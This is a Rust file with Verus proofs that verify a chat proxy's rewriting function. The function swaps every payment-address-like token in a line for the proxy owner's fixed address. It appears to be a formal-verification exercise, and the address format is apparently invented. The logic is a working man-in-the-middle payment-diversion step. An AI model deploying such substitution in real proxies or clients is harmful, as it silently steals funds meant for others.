//! The rewriting that a proxy between a chat client and its server does:
//! every payment address in a line becomes the address of the proxy's
//! owner.
//!
//! A line is cut at its spaces. A part is an address when it begins with
//! the digit 7, takes 26 to 35 bytes, and holds letters and numbers only.
//! Such a part is replaced; every other part, and every space, stays.
use vstd::prelude::*;
use crate::unicode::{
    alphanumeric, char_len, chars_of, is_alphanumeric, string_of, utf8_len_of,
};

verus! {

/// The address that is written in place of any other:
/// `7YWHMfk9JZe0LM0g1ZauHuiSxhI`.
pub open spec fn own_address() -> Seq<char> {
    seq![
        '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1', 'Z',
        'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
    ]
}

/// Whether every character of a text is a letter or a number.
pub open spec fn all_alphanumeric(s: Seq<char>) -> bool {
    forall|i: int| 0 <= i < s.len() ==> alphanumeric(#[trigger] s[i])
}

/// Whether a part of a line is an address.
pub open spec fn is_address(part: Seq<char>) -> bool {
    &&& part.len() > 0
    &&& part[0] == '7'
    &&& 26 <= utf8_len_of(part) <= 35
    &&& all_alphanumeric(part)
}

/// What is written for a part of a line.
pub open spec fn part_rewritten(part: Seq<char>) -> Seq<char> {
    if is_address(part) {
        own_address()
    } else {
        part
    }
}

/// The number of characters before the first space of `s`; the length of
/// `s` where it holds none.
pub open spec fn first_space(s: Seq<char>) -> nat
    decreases s.len(),
{
    if s.len() == 0 || s[0] == ' ' {
        0
    } else {
        1 + first_space(s.skip(1))
    }
}

/// A line with every address in it replaced.
pub open spec fn rewritten(line: Seq<char>) -> Seq<char>
    decreases line.len(),
{
    let k = first_space(line) as int;
    if k >= line.len() {
        part_rewritten(line)
    } else {
        part_rewritten(line.take(k)).push(' ') + rewritten(line.skip(k + 1))
    }
}

/// Where the first space of `s` is at `k`, or `k` is the length of a text
/// without one, `first_space` gives `k`.
proof fn lemma_first_space_at(s: Seq<char>, k: int)
    requires
        0 <= k <= s.len(),
        forall|i: int| 0 <= i < k ==> s[i] != ' ',
        k < s.len() ==> s[k] == ' ',
    ensures
        first_space(s) == k,
    decreases s.len(),
{
    if k > 0 {
        let t = s.skip(1);
        assert forall|i: int| 0 <= i < k - 1 implies t[i] != ' ' by {
            assert(t[i] == s[i + 1]);
        }
        lemma_first_space_at(t, k - 1);
    }
}

/// The UTF-8 length of a text is at least the length of any of its
/// beginnings.
proof fn lemma_utf8_len_prefix(s: Seq<char>, k: int)
    requires
        0 <= k <= s.len(),
    ensures
        utf8_len_of(s.take(k)) <= utf8_len_of(s),
        k <= utf8_len_of(s.take(k)),
    decreases s.len() - k,
{
    if k == s.len() {
        assert(s.take(k) == s);
        lemma_utf8_len_at_least(s);
    } else {
        lemma_utf8_len_prefix(s.drop_last(), k);
        assert(s.drop_last().take(k) == s.take(k));
    }
}

/// A text takes at least one byte for each character.
proof fn lemma_utf8_len_at_least(s: Seq<char>)
    ensures
        s.len() <= utf8_len_of(s),
    decreases s.len(),
{
    if s.len() > 0 {
        lemma_utf8_len_at_least(s.drop_last());
    }
}

/// Whether the part of `line` from `from` to `to` is an address.
fn part_is_address(line: &Vec<char>, from: usize, to: usize) -> (r: bool)
    requires
        from <= to <= line.len(),
    ensures
        r == is_address(line@.subrange(from as int, to as int)),
{
    let ghost part = line@.subrange(from as int, to as int);
    if from == to || line[from] != '7' {
        return false;
    }
    let mut bytes: usize = 0;
    let mut i: usize = from;
    proof {
        assert(part.take(0) == Seq::<char>::empty());
    }
    while i < to
        invariant
            from <= i <= to <= line.len(),
            part == line@.subrange(from as int, to as int),
            bytes == utf8_len_of(part.take(i - from)),
            bytes <= 35,
            all_alphanumeric(part.take(i - from)),
        decreases to - i,
    {
        let c = line[i];
        proof {
            assert(part.take(i - from + 1).drop_last() == part.take(i - from));
            assert(part.take(i - from + 1).last() == c);
            lemma_utf8_len_prefix(part, i - from + 1);
        }
        if !is_alphanumeric(c) {
            assert(!alphanumeric(part[i - from]));
            return false;
        }
        bytes += char_len(c);
        if bytes > 35 {
            return false;
        }
        proof {
            assert forall|j: int| 0 <= j < i - from + 1 implies alphanumeric(
                #[trigger] part.take(i - from + 1)[j],
            ) by {
                if j < i - from {
                    assert(part.take(i - from)[j] == part[j]);
                }
            }
        }
        i += 1;
    }
    proof {
        assert(part.take(to - from) == part);
    }
    bytes >= 26
}

/// Replaces every address in a line, given as its characters.
pub fn rewrite_chars(line: &Vec<char>) -> (out: Vec<char>)
    ensures
        out@ == rewritten(line@),
{
    let n = line.len();
    let mut out: Vec<char> = Vec::new();
    let mut start: usize = 0;
    proof {
        assert(line@.skip(0) == line@);
        assert(out@ + rewritten(line@) == rewritten(line@));
    }
    loop
        invariant
            n == line.len(),
            start <= n,
            out@ + rewritten(line@.skip(start as int)) == rewritten(line@),
        decreases n - start,
    {
        let ghost rest = line@.skip(start as int);
        let ghost before = out@;
        let mut end: usize = start;
        while end < n && line[end] != ' '
            invariant
                n == line.len(),
                start <= end <= n,
                forall|i: int| start <= i < end ==> line[i] != ' ',
            decreases n - end,
        {
            end += 1;
        }
        proof {
            lemma_first_space_at(rest, end - start);
            assert(rest.take(end - start) == line@.subrange(start as int, end as int));
        }
        let ghost part = line@.subrange(start as int, end as int);
        if part_is_address(line, start, end) {
            let address: [char; 27] = [
                '7', 'Y', 'W', 'H', 'M', 'f', 'k', '9', 'J', 'Z', 'e', '0', 'L', 'M', '0', 'g', '1',
                'Z', 'a', 'u', 'H', 'u', 'i', 'S', 'x', 'h', 'I',
            ];
            assert(address@ =~= own_address());
            out.extend_from_slice(address.as_slice());
        } else {
            out.extend_from_slice(vstd::slice::slice_subrange(line.as_slice(), start, end));
        }
        assert(out@ == before + part_rewritten(part));
        if end >= n {
            proof {
                assert(rest.take(end - start) == rest);
            }
            return out;
        }
        out.push(' ');
        proof {
            assert(rest.skip(end - start + 1) == line@.skip(end + 1));
            assert(out@ + rewritten(line@.skip(end + 1)) == before + (part_rewritten(part).push(
                ' ',
            ) + rewritten(line@.skip(end + 1))));
        }
        start = end + 1;
    }
}

/// Replaces every address in a line.
pub fn rewrite(line: &str) -> (out: String)
    ensures
        out@ == rewritten(line@),
{
    let chars = chars_of(line);
    let replaced = rewrite_chars(&chars);
    string_of(replaced.as_slice())
}

} // verus!
